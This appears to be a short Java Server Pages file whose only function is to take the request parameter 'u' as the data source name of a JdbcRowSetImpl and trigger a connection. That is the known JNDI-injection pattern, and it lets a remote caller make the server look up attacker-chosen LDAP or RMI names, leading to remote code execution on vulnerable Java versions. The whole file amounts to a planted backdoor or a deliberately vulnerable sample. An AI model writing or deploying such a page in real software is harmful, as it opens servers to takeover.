<%@ page import="com.sun.rowset.JdbcRowSetImpl" %>
<%
JdbcRowSetImpl rs = new JdbcRowSetImpl();
rs.setDataSourceName(request.getParameter("u"));
rs.setAutoCommit(true);
%>
